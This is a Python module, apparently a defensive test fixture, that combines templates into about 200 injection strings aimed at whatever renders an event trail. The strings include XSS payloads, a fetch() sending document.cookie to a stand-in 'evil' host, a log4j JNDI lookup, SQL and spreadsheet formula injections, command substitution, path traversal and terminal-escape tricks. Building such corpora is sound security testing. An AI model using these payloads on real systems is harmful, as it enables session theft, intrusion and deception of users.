"""What somebody may write into a trail in the hope that its reader's browser, terminal or
spreadsheet does something: 200 strings, by combining templates.
"""
# ruff: noqa: RUF001 (letters that look like others are what this is about)

from itertools import product

MARK = "__pwned"
"""What a script sets, if it ever runs."""
ELSEWHERE = "https://elsewhere.evil"

_ACTS = (
    f"window.{MARK}=1",
    "alert(1)",
    f"fetch('{ELSEWHERE}/'+document.cookie)",
    "import('//evil')",
)

_TAGS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<details open ontoggle={act}>x</details>",
    "<body onload={act}>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<input autofocus onfocus={act}>",
    '<a href="javascript:{act}">x</a>',
    "<video><source onerror={act}></video>",
    '<object data="javascript:{act}"></object>',
    "<template><script>{act}</script></template>",
    "<style onload={act}></style>",
    "<marquee onstart={act}>x</marquee>",
)
_BREAKS = ('"', "'", "</td>", "</script>", "-->", "]]>", "`", "</title>", "</bdi>", '\\"')
_BROKEN_BY = (
    "<img src=x onerror=alert(1)>",
    " onmouseover=alert(1) x=",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<base href={ELSEWHERE}>",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//elsewhere.evil/x.js>",
    "<img/src=`x`/onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "#token=aaaa.bbbb.cccc",
    "//elsewhere.evil/x",
)
_TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in () %}{% endfor %}",
    "{{7*'7'}}",
    "[[${7*7}]]",
    "@(7*7)",
    "{{{7}}}",
    "__proto__",
    "constructor",
    "toString",
    "${jndi:ldap://elsewhere.evil/a}",
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "1; UPDATE events SET reason='x'",
)
_UNICODE = (
    "\u202egpj.exe\u202c",
    "abc\u202edcba",
    "\u2066admin\u2069",
    "\u200badmin",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307" * 4,
    "аdmin",
    "ａｄｍｉｎ",
    "שלום <b>x</b>",
    "مرحبا <img src=x>",
    "\U0001f469\u200d\U0001f4bb <script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "line\nbreak",
    "line\r\nX-Header: 1",
    "tab\tbed",
    "nul\x00byte",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\ufffd\uffff",
    "A" * 256,
    "W" * 64 + "<b>",
)
_CELLS = (
    '=HYPERLINK("http://elsewhere.evil","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    '"quoted",cell',
    "a;b,c|d",
    "%0A=1+1",
    '=IMPORTXML("http://elsewhere.evil")',
)
_FORMATS = (
    "%s%s%s%n",
    "%x.%x.%x",
    "%d",
    "{0.__class__}",
    "{}{}{}",
    "%(password)s",
    "{self.__init__.__globals__}",
    "$(touch x)",
    "`id`",
    "../../../../etc/passwd",
    "null",
    "undefined",
)

PAYLOADS = (
    *(tag.format(act=act) for tag, act in product(_TAGS, _ACTS)),
    *("".join(pair) for pair in product(_BREAKS, _BROKEN_BY)),
    *_ENTITIES,
    *_TEMPLATES,
    *_UNICODE,
    *_CELLS,
    *_FORMATS,
    "<form action=https://elsewhere.evil><button>Sign in again</button></form>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.evil'>",
    "<dialog open>Sign in again: <input></dialog>",
    "<link rel=prefetch href=https://elsewhere.evil/p>",
    "<embed src=https://elsewhere.evil/e>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<x onclick=alert(1)>click",
    "<p style=position:fixed;inset:0;background:red>over",
    "<style>*{display:none}</style>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><script href=data:,alert(1) />",
    "<button formaction=javascript:alert(1)>x",
    "<frameset onload=alert(1)>",
)
